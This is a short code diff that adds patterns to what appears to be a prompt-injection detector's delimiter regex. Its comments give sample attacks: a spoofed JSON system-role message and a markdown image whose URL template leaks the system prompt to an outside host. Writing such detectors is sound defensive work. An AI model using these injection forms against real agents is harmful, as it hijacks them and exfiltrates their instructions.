@@ -183,6 +183,10 @@ DELIMITERS = linear.compile(
     r"|<\|\s*(?:im_start|im_end|system|assistant|user|endoftext)\s*\|>"
     r"|\[/?INST\]|<<\s*/?\s*SYS\s*>>"
     r"|(?:^|\n)\s*\#{2,}\s*(?:system|instructions?|new\s+instructions?)\b\s*:?"
+    # a chat message written as JSON in a role the agent obeys: {"role": "system", "content": ...}
+    r"|[\"']role[\"']\s*:\s*[\"'](?:system|developer)[\"']"
+    # an image whose address a renderer fills from the conversation: ![x](https://host/log?q={{system_prompt}})
+    r"|!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s]{0,500}(?:\{\{|\$\{|%7B%7B)"
 )
 
 _IMPERATIVE_VERBS = (
